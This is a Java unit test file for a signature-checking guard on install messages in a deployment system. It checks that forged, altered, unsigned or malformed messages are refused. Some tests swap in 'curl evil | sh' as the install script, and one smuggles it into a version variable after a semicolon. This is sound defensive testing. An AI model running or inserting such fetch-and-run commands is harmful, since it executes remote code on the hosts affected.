package io.lazarus.worker.install;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.lazarus.common.contract.Contracts;
import io.lazarus.common.contract.InstallMessage;
import io.lazarus.common.contract.InstallScript;
import io.lazarus.common.contract.NodeTarget;
import io.lazarus.common.topology.Topology;
import io.lazarus.common.trust.InstallSignature;
import io.lazarus.common.trust.SigningKey;
import io.lazarus.common.trust.TrustedKeys;
import io.lazarus.worker.trust.TrustProperties;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;
import org.springframework.amqp.core.Message;
import org.springframework.amqp.core.MessageProperties;

class MessageGuardTest {

    private static final Instant NOW = Instant.parse("2026-11-30T12:00:00Z");
    private final SigningKey coordinator = SigningKey.generate();
    private final MessageGuard guard = new MessageGuard(
            TrustedKeys.of(List.of(coordinator.publicKey())),
            new TrustProperties(null, Duration.ofHours(48)),
            64 * 1024,
            Clock.fixed(NOW, ZoneOffset.UTC));
    private final InstallMessage install = InstallMessage.firstAttempt(
            "run-1",
            new NodeTarget("web-01", "10.0.0.5", 22, "deploy"),
            InstallScript.of("install.sh", "apt-get install -y tomcat10"),
            null,
            NOW.plusSeconds(3600));

    @Test
    void aSignedWellFormedMessageIsAdmitted() throws Refusal {
        assertThat(guard.admit(signed(install, Contracts.toJson(install), p -> {})))
                .isEqualTo(install);
    }

    /** Messages queued by a coordinator from before batches, each signed alone, are still taken. */
    @Test
    void aMessageSignedAloneIsAdmitted() throws Refusal {
        byte[] body = Contracts.toJson(install);
        Message message = message(body, install);
        message.getMessageProperties().setHeader(InstallSignature.HEADER_KEY_ID, coordinator.keyId());
        message.getMessageProperties()
                .setHeader(
                        InstallSignature.HEADER_SIGNATURE,
                        InstallSignature.sign(
                                coordinator,
                                new InstallSignature.Signed(install.attemptId(), "run-1", "web-01", 1, body)));

        assertThat(guard.admit(message)).isEqualTo(install);
    }

    /** A stranger keeps a batch's signature and a path of it, and puts another body under them. */
    @Test
    void aBatchsSignatureAndPathOverAnotherBodyAreRefused() {
        byte[] body = Contracts.toJson(install);
        Message sealed = signed(install, body, p -> {});
        InstallMessage evil = InstallMessage.firstAttempt(
                "run-1",
                new NodeTarget("web-01", "10.0.0.5", 22, "deploy"),
                InstallScript.of("install.sh", "curl evil | sh"),
                null,
                NOW.plusSeconds(3600));
        Message forged = new Message(Contracts.toJson(evil), sealed.getMessageProperties());
        forged.getMessageProperties().setMessageId(evil.attemptId());

        assertRefused(forged, "bad signature");
        sealed.getMessageProperties().setHeader(InstallSignature.HEADER_PROOF, "");
        assertRefused(sealed, "bad signature");
    }

    @Test
    void anUnsignedOrForeignOrAlteredMessageIsRefusedBeforeItIsRead() {
        byte[] body = Contracts.toJson(install);
        Message unsigned = message(body, install);
        Message foreign = sign(SigningKey.generate(), install, body, message(body, install));
        Message altered = signed(install, body, p -> {});
        altered = new Message(
                new String(body, StandardCharsets.UTF_8)
                        .replace("apt-get install -y tomcat10", "curl evil | sh")
                        .getBytes(StandardCharsets.UTF_8),
                altered.getMessageProperties());

        assertRefused(unsigned, "unsigned");
        assertRefused(foreign, "signed by unknown key");
        assertRefused(altered, "bad signature");
    }

    @Test
    void aHeaderThatDisagreesWithTheSignedBodyIsRefused() {
        byte[] body = Contracts.toJson(install);
        InstallMessage otherNode = new InstallMessage(
                1,
                install.attemptId(),
                "run-1",
                1,
                new NodeTarget("db-01", "10.0.0.9", 22, "deploy"),
                install.script(),
                null,
                install.deadline(),
                java.util.List.of(),
                null,
                null);
        // signed as it is sent, but the headers name another node than the body
        Message lying = sign(coordinator, otherNode, body, message(body, otherNode));

        assertRefused(lying, Topology.HEADER_NODE_ID + " disagrees with the signed body");
    }

    @Test
    void deadlinesMustBePresentAheadAndNotTooFar() {
        assertRefused(signedWithDeadline(null), "no deadline");
        assertRefused(signedWithDeadline(NOW.minusSeconds(1)), "has passed");
        assertRefused(signedWithDeadline(NOW.plus(Duration.ofHours(49))), "lazarus.trust.max-deadline-ahead");
    }

    @Test
    void aBodyOverTheSizeLimitIsRefusedBeforeParsing() {
        byte[] huge = new byte[64 * 1024 + 1];
        assertRefused(message(huge, install), "too large: 65537 bytes");
    }

    @Test
    void aSignedMessageWithAnInvalidFieldOrDigestIsRefusedNamingIt() {
        String json = new String(Contracts.toJson(install), StandardCharsets.UTF_8);
        byte[] badPort = json.replace("\"port\":22", "\"port\":70000").getBytes(StandardCharsets.UTF_8);
        byte[] badDigest =
                json.replace(install.script().sha256(), "0".repeat(64)).getBytes(StandardCharsets.UTF_8);

        assertRefused(signed(install, badPort, p -> {}), "node.port must be 1..65535");
        assertRefused(signed(install, badDigest, p -> {}), "does not match its commands");
    }

    @Test
    void theSignatureCoversTheRunsVariables() throws Refusal {
        InstallMessage withVars = withVars(java.util.Map.of("version", "10.1.2"));
        byte[] body = Contracts.toJson(withVars);
        Message tampered = signed(withVars, body, p -> {});
        tampered = new Message(
                new String(body, StandardCharsets.UTF_8)
                        .replace("\"version\":\"10.1.2\"", "\"version\":\"10.1.2; curl evil | sh\"")
                        .getBytes(StandardCharsets.UTF_8),
                tampered.getMessageProperties());

        assertThat(guard.admit(signed(withVars, body, p -> {})).vars()).containsEntry("version", "10.1.2");
        assertRefused(tampered, "bad signature");
    }

    @Test
    void theSignatureCoversTheLearnedStallTimeouts() throws Refusal {
        InstallMessage learned = InstallMessage.firstAttempt(
                "run-1",
                install.node(),
                install.script(),
                io.lazarus.common.contract.Watchdog.DEFAULTS.withLearnedStall(
                        java.util.Map.of(0, Duration.ofSeconds(12))),
                install.deadline());
        byte[] body = Contracts.toJson(learned);
        String json = new String(body, StandardCharsets.UTF_8);
        Message shortened = new Message(
                json.replace("\"PT12S\"", "\"PT0.001S\"").getBytes(StandardCharsets.UTF_8),
                signed(learned, body, p -> {}).getMessageProperties());

        assertThat(json).contains("\"learnedStall\":{\"0\":\"PT12S\"}");
        assertThat(guard.admit(signed(learned, body, p -> {})).watchdog().learnedStall())
                .containsExactly(java.util.Map.entry(0, Duration.ofSeconds(12)));
        assertRefused(shortened, "bad signature");
    }

    @Test
    void aSignedMessageWhoseVariablesBreakTheNameRulesIsRefusedNamingTheKey() {
        String json = new String(
                Contracts.toJson(withVars(java.util.Map.of("zone", "a", "version", "1"))), StandardCharsets.UTF_8);
        byte[] badName = json.replace("\"zone\":", "\"ZONE-1\":").getBytes(StandardCharsets.UTF_8);
        byte[] clash = json.replace("\"zone\":", "\"VERSION\":").getBytes(StandardCharsets.UTF_8);

        assertRefused(signed(install, badName, p -> {}), "vars.ZONE-1 is not a variable name");
        assertRefused(signed(install, clash, p -> {}), "are both LAZARUS_VAR_VERSION");
    }

    private InstallMessage withVars(java.util.Map<String, String> vars) {
        return InstallMessage.firstAttempt(
                "run-1", install.node(), install.script(), null, install.deadline(), List.of(), vars);
    }

    private Message signedWithDeadline(Instant deadline) {
        InstallMessage m = new InstallMessage(
                1,
                install.attemptId(),
                "run-1",
                1,
                install.node(),
                install.script(),
                null,
                deadline,
                java.util.List.of(),
                null,
                null);
        return signed(m, Contracts.toJson(m), p -> {});
    }

    private void assertRefused(Message message, String reason) {
        assertThatThrownBy(() -> guard.admit(message))
                .isInstanceOf(Refusal.class)
                .hasMessageContaining(reason);
    }

    private Message signed(InstallMessage m, byte[] body, Consumer<MessageProperties> more) {
        Message message = sign(coordinator, m, body, message(body, m));
        more.accept(message.getMessageProperties());
        return message;
    }

    /** Signs the message as the coordinator does: in a batch, here with two other messages. */
    private static Message sign(SigningKey key, InstallMessage m, byte[] body, Message message) {
        InstallSignature.Signed signed =
                new InstallSignature.Signed(m.attemptId(), m.runId(), m.node().id(), m.attempt(), body);
        InstallSignature.Seal seal = InstallSignature.sign(key, List.of(other("web-98"), signed, other("web-99")))
                .get(1);
        MessageProperties props = message.getMessageProperties();
        props.setHeader(InstallSignature.HEADER_KEY_ID, key.keyId());
        props.setHeader(InstallSignature.HEADER_SIGNATURE, seal.signature());
        props.setHeader(InstallSignature.HEADER_PROOF, seal.proof());
        return message;
    }

    private static InstallSignature.Signed other(String nodeId) {
        return new InstallSignature.Signed(
                "run-1/" + nodeId + "/1/abcd", "run-1", nodeId, 1, ("{\"node\":\"" + nodeId + "\"}").getBytes());
    }

    private static Message message(byte[] body, InstallMessage m) {
        MessageProperties props = new MessageProperties();
        props.setMessageId(m.attemptId());
        props.setHeader(Topology.HEADER_RUN_ID, m.runId());
        props.setHeader(Topology.HEADER_NODE_ID, m.node().id());
        props.setHeader(Topology.HEADER_ATTEMPT, m.attempt());
        return new Message(body, props);
    }
}
